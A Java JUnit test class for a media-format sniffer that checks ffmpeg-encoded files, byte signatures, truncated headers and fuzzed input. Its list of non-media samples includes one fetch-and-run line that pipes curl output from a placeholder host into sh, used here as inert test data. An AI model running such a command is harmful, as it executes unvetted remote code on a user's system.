package dev.stt.common.media;

import static dev.stt.common.media.MediaSniffer.ascii;
import static dev.stt.common.media.MediaSniffer.bytes;
import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import dev.stt.common.testing.AudioFixtureFormat;
import dev.stt.common.testing.SpeechFixtures;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

class MediaSnifferTest {

    /** Stands for the speech WAV in an {@link Encoding}'s arguments; it exists only once the class runs. */
    private static final String SPEECH = "<speech.wav>";
    private static final long FFMPEG_TIMEOUT_SECONDS = 120;

    @TempDir
    static Path media;

    @ParameterizedTest
    @EnumSource(AudioFixtureFormat.class)
    void recognisesEverySpeechFixtureFormat(AudioFixtureFormat format) throws IOException {
        DetectedMedia expected = switch (format) {
            case WAV -> DetectedMedia.WAV;
            case MP3 -> DetectedMedia.MP3;
            case FLAC -> DetectedMedia.FLAC;
            case OGG_OPUS -> DetectedMedia.OGG;
            // ffmpeg's mp4 muxer writes the generic "isom" brand even without video
            case M4A, MP4_VIDEO -> DetectedMedia.MP4;
            case WEBM -> DetectedMedia.WEBM;
        };
        Path file = SpeechFixtures.encode(SpeechFixtures.speechWav(media), format, media);

        assertEquals(Optional.of(expected), sniff(file));
    }

    @ParameterizedTest
    @MethodSource("encodings")
    void recognisesWhatFfmpegWrites(Encoding encoding) throws IOException {
        assertEquals(Optional.of(encoding.expected()), sniff(encode(encoding)));
    }

    static Stream<Encoding> encodings() {
        return Stream.of(
                Encoding.ofSpeech("mp3-without-id3", DetectedMedia.MP3,
                        "-c:a", "libmp3lame", "-b:a", "64k", "-id3v2_version", "0", "-write_xing", "0", "-f", "mp3"),
                Encoding.ofSpeech("mp2", DetectedMedia.MP3, "-c:a", "mp2", "-f", "mp2"),
                Encoding.ofSpeech("aac-adts", DetectedMedia.AAC, "-c:a", "aac", "-b:a", "64k", "-f", "adts"),
                Encoding.ofSpeech("m4a-ipod", DetectedMedia.M4A, "-c:a", "aac", "-b:a", "64k", "-f", "ipod"),
                Encoding.ofSpeech("mov", DetectedMedia.MP4, "-c:a", "aac", "-b:a", "64k", "-f", "mov"),
                Encoding.ofSpeech("3gp", DetectedMedia.MP4, "-c:a", "aac", "-b:a", "32k", "-f", "3gp"),
                Encoding.ofSpeech("ogg-vorbis", DetectedMedia.OGG, "-c:a", "libvorbis", "-f", "ogg"),
                Encoding.ofSpeech("ogg-flac", DetectedMedia.OGG, "-c:a", "flac", "-f", "ogg"),
                Encoding.ofSpeech("matroska", DetectedMedia.WEBM, "-c:a", "flac", "-f", "matroska"),
                Encoding.ofSpeech("mpeg-ts", DetectedMedia.MPEG_TS, "-c:a", "aac", "-b:a", "64k", "-f", "mpegts"),
                Encoding.ofSpeech("mpeg-ps", DetectedMedia.MPEG_PS, "-c:a", "mp2", "-f", "mpeg"),
                Encoding.ofSpeech("vob", DetectedMedia.MPEG_PS, "-c:a", "mp2", "-f", "vob"),
                Encoding.ofSpeech("flv", DetectedMedia.FLV, "-c:a", "aac", "-b:a", "64k", "-f", "flv"),
                Encoding.ofSpeech("asf", DetectedMedia.ASF, "-c:a", "wmav2", "-f", "asf"),
                Encoding.ofSpeech("avi", DetectedMedia.AVI, "-c:a", "pcm_s16le", "-f", "avi"),
                new Encoding("mpeg1-video", DetectedMedia.MPEG_VIDEO, List.of(
                        "-f", "lavfi", "-i", "testsrc=duration=1:size=160x120:rate=25",
                        "-c:v", "mpeg1video", "-f", "mpeg1video")));
    }

    @Test
    void mp3WithId3TagIsRecognisedByTheTag() throws IOException {
        Path mp3 = SpeechFixtures.encode(SpeechFixtures.speechWav(media), AudioFixtureFormat.MP3, media);

        assertEquals("ID3", new String(firstBytes(mp3), 0, 3, StandardCharsets.US_ASCII));
        assertEquals(Optional.of(DetectedMedia.MP3), sniff(mp3));
    }

    @Test
    void mp3WithoutId3TagIsRecognisedByItsFrameHeader() throws IOException {
        Path mp3 = encode(encodings().filter(e -> e.name().equals("mp3-without-id3")).findFirst().orElseThrow());

        assertEquals(0xFF, firstBytes(mp3)[0] & 0xFF, "the file starts with a frame sync, not a tag");
        assertEquals(Optional.of(DetectedMedia.MP3), sniff(mp3));
    }

    @ParameterizedTest
    @MethodSource("signatures")
    void recognisesTheShortestHeaderOfEachSignature(Signature signature) {
        byte[] header = signature.header();

        assertEquals(Optional.of(signature.expected()), MediaSniffer.detect(header, header.length));
    }

    @ParameterizedTest
    @MethodSource("signatures")
    void truncatedHeadersAreNotRecognised(Signature signature) {
        byte[] header = signature.header();
        for (int length = 0; length < header.length; length++) {
            byte[] truncated = Arrays.copyOf(header, length);
            assertEquals(Optional.empty(), MediaSniffer.detect(truncated, length), "array of " + length + " bytes");
            assertEquals(Optional.empty(), MediaSniffer.detect(header, length), "first " + length + " bytes");
        }
    }

    static Stream<Signature> signatures() {
        return Stream.of(
                new Signature("RIFF WAVE", DetectedMedia.WAV, concat(ascii("RIFF"), le32(36), ascii("WAVE"))),
                new Signature("RIFF AVI", DetectedMedia.AVI, concat(ascii("RIFF"), le32(4096), ascii("AVI "))),
                new Signature("ID3v2.4 tag", DetectedMedia.MP3, concat(ascii("ID3"), bytes(4, 0, 0, 0, 0, 0x02, 0x01))),
                new Signature("MPEG-1 layer III frame", DetectedMedia.MP3, bytes(0xFF, 0xFB, 0x90)),
                new Signature("MPEG-2 layer II frame", DetectedMedia.MP3, bytes(0xFF, 0xF5, 0xE8)),
                new Signature("ADTS frame", DetectedMedia.AAC, bytes(0xFF, 0xF1, 0x50)),
                new Signature("ftyp isom", DetectedMedia.MP4, concat(be32(32), ascii("ftypisom"))),
                new Signature("ftyp qt", DetectedMedia.MP4, concat(be32(20), ascii("ftypqt  "))),
                new Signature("ftyp M4A", DetectedMedia.M4A, concat(be32(28), ascii("ftypM4A "))),
                new Signature("fLaC", DetectedMedia.FLAC, ascii("fLaC")),
                new Signature("OggS", DetectedMedia.OGG, ascii("OggS")),
                new Signature("EBML", DetectedMedia.WEBM, bytes(0x1A, 0x45, 0xDF, 0xA3)),
                new Signature("FLV version 1", DetectedMedia.FLV, concat(ascii("FLV"), bytes(1))),
                new Signature("ASF header GUID", DetectedMedia.ASF, bytes(
                        0x30, 0x26, 0xB2, 0x75, 0x8E, 0x66, 0xCF, 0x11, 0xA6, 0xD9, 0x00, 0xAA, 0x00, 0x62, 0xCE, 0x6C)),
                new Signature("MPEG-PS pack header", DetectedMedia.MPEG_PS, bytes(0x00, 0x00, 0x01, 0xBA)),
                new Signature("MPEG-1 sequence header", DetectedMedia.MPEG_VIDEO, bytes(0x00, 0x00, 0x01, 0xB3)),
                new Signature("two MPEG-TS packets", DetectedMedia.MPEG_TS,
                        Arrays.copyOf(transportPackets(2), 188 + 1)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("notMedia")
    void rejectsWhatIsNotMedia(String description, byte[] content) {
        assertEquals(Optional.empty(), MediaSniffer.detect(content, content.length));
    }

    static Stream<Arguments> notMedia() {
        byte[] syncLostAtThirdPacket = transportPackets(3);
        syncLostAtThirdPacket[2 * 188] = 0x00;
        byte[] syncLostAtFourthPacket = transportPackets(4);
        syncLostAtFourthPacket[3 * 188] = 0x00;
        byte[] loneSyncByte = new byte[600];
        loneSyncByte[0] = 0x47;
        return Stream.of(
                Arguments.of("a single 0x47", bytes(0x47)),
                Arguments.of("0x47 that never repeats", loneSyncByte),
                Arguments.of("0x47 at 0 and 188 but not 376", syncLostAtThirdPacket),
                Arguments.of("0x47 lost after three packets", syncLostAtFourthPacket),
                Arguments.of("RIFF WEBP image", concat(ascii("RIFF"), le32(1024), ascii("WEBPVP8 "), new byte[32])),
                Arguments.of("HTML page", ascii("<!DOCTYPE html>\n<html><head><title>song.mp3</title></head>"
                        + "<body><audio src=\"song.mp3\"></audio></body></html>\n")),
                Arguments.of("JSON document", ascii("{\"file\": \"song.mp3\", \"duration\": 3.5, \"format\": \"ID3\"}")),
                Arguments.of("PNG image", concat(bytes(0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A),
                        be32(13), ascii("IHDR"), be32(640), be32(480), bytes(8, 6, 0, 0, 0))),
                Arguments.of("ZIP archive of an MP3", concat(bytes('P', 'K', 3, 4, 20, 0, 0, 0, 8, 0),
                        new byte[16], bytes(8, 0, 0, 0), ascii("song.mp3"))),
                Arguments.of("ELF executable", concat(bytes(0x7F, 'E', 'L', 'F', 2, 1, 1, 0), new byte[8],
                        bytes(2, 0, 0x3E, 0, 1, 0, 0, 0))),
                Arguments.of("Windows PE executable", concat(bytes('M', 'Z', 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF),
                        new byte[50], ascii("This program cannot be run in DOS mode."))),
                Arguments.of("shell script", ascii("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n")),
                Arguments.of("PDF document", ascii("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")),
                Arguments.of("text that starts with ID3", ascii("ID3 tags carry the title of an MP3 file.")),
                Arguments.of("frame sync with reserved MPEG version", bytes(0xFF, 0xEB, 0x90, 0x00)),
                Arguments.of("frame sync with reserved layer", bytes(0xFF, 0xE1, 0x90, 0x00)),
                Arguments.of("frame sync with bad bitrate index", bytes(0xFF, 0xFB, 0xF0, 0x00)),
                Arguments.of("frame sync with reserved sample rate", bytes(0xFF, 0xFB, 0x9C, 0x00)),
                Arguments.of("ADTS sync with reserved sample rate", bytes(0xFF, 0xF1, 0x7C, 0x00)),
                Arguments.of("FLV version 2", concat(ascii("FLV"), bytes(2, 5, 0, 0, 0, 9))),
                Arguments.of("ftyp box too small for a brand", concat(be32(8), ascii("ftypisom"))),
                Arguments.of("text with ftyp at offset 4", ascii("abcdftypisom and more words")),
                Arguments.of("all zeros", new byte[MediaSniffer.PREFIX_BYTES]),
                Arguments.of("empty", new byte[0]));
    }

    @Test
    void readsOnlyTheGivenLength() {
        byte[] buffer = new byte[MediaSniffer.PREFIX_BYTES];
        System.arraycopy(ascii("fLaC"), 0, buffer, 0, 4);

        assertEquals(Optional.of(DetectedMedia.FLAC), MediaSniffer.detect(buffer, 4));
        assertEquals(Optional.empty(), MediaSniffer.detect(buffer, 0));
    }

    @Test
    void refusesALengthOutsideTheBuffer() {
        assertThrows(IllegalArgumentException.class, () -> MediaSniffer.detect(new byte[4], 5));
        assertThrows(IllegalArgumentException.class, () -> MediaSniffer.detect(new byte[4], -1));
    }

    @Test
    void randomBytesNeverThrow() {
        Random random = new Random(20_240_611L);
        for (int i = 0; i < 20_000; i++) {
            byte[] prefix = new byte[i % 10 == 0 ? MediaSniffer.PREFIX_BYTES : random.nextInt(400)];
            random.nextBytes(prefix);
            int length = random.nextInt(prefix.length + 1);
            assertDoesNotThrow(() -> MediaSniffer.detect(prefix, length), () -> "bytes " + Arrays.toString(prefix));
        }
    }

    @Test
    void randomBytesBehindEverySignatureNeverThrow() {
        Random random = new Random(42L);
        List<Signature> all = signatures().toList();
        for (int i = 0; i < 20_000; i++) {
            byte[] header = all.get(i % all.size()).header();
            byte[] prefix = new byte[header.length + random.nextInt(400)];
            random.nextBytes(prefix);
            System.arraycopy(header, 0, prefix, 0, random.nextInt(header.length + 1));
            int length = random.nextInt(prefix.length + 1);
            assertDoesNotThrow(() -> MediaSniffer.detect(prefix, length), () -> "bytes " + Arrays.toString(prefix));
        }
    }

    private static Optional<DetectedMedia> sniff(Path file) throws IOException {
        byte[] prefix = firstBytes(file);
        return MediaSniffer.detect(prefix, prefix.length);
    }

    private static byte[] firstBytes(Path file) throws IOException {
        try (InputStream in = Files.newInputStream(file)) {
            return in.readNBytes(MediaSniffer.PREFIX_BYTES);
        }
    }

    private static Path encode(Encoding encoding) {
        Path speech = SpeechFixtures.speechWav(media);
        Path target = media.resolve(encoding.name() + ".out");
        List<String> command = new ArrayList<>(List.of("ffmpeg", "-nostdin", "-y", "-loglevel", "error"));
        encoding.arguments().forEach(argument -> command.add(argument.equals(SPEECH) ? speech.toString() : argument));
        command.add(target.toString());
        runFfmpeg(command);
        return target;
    }

    private static void runFfmpeg(List<String> command) {
        Path log = media.resolve("ffmpeg-" + System.nanoTime() + ".log");
        try {
            Process process = new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(log.toFile()).start();
            if (!process.waitFor(FFMPEG_TIMEOUT_SECONDS, TimeUnit.SECONDS)) {
                process.destroyForcibly();
                throw new AssertionError("ffmpeg timed out: " + command);
            }
            String output = Files.readString(log);
            assertEquals(0, process.exitValue(), () -> "ffmpeg failed: " + command + "\n" + output);
        } catch (IOException e) {
            throw new AssertionError("could not run " + command, e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new AssertionError("interrupted running " + command, e);
        }
    }

    /** {@code count} 188-byte packets with the sync byte where it belongs and stuffing elsewhere. */
    private static byte[] transportPackets(int count) {
        byte[] stream = new byte[count * 188];
        Arrays.fill(stream, (byte) 0xFF);
        for (int packet = 0; packet < count; packet++) {
            System.arraycopy(bytes(0x47, 0x1F, 0xFF, 0x10), 0, stream, packet * 188, 4);
        }
        return stream;
    }


    private static byte[] le32(int value) {
        return bytes(value, value >> 8, value >> 16, value >> 24);
    }

    private static byte[] be32(int value) {
        return bytes(value >> 24, value >> 16, value >> 8, value);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    /** An ffmpeg command line between the global options and the output file. */
    record Encoding(String name, DetectedMedia expected, List<String> arguments) {

        static Encoding ofSpeech(String name, DetectedMedia expected, String... outputArguments) {
            List<String> arguments = new ArrayList<>(List.of("-i", SPEECH));
            arguments.addAll(List.of(outputArguments));
            return new Encoding(name, expected, arguments);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    /** The shortest header that is enough to recognise {@code expected}. */
    record Signature(String name, DetectedMedia expected, byte[] header) {

        @Override
        public String toString() {
            return name;
        }
    }
}
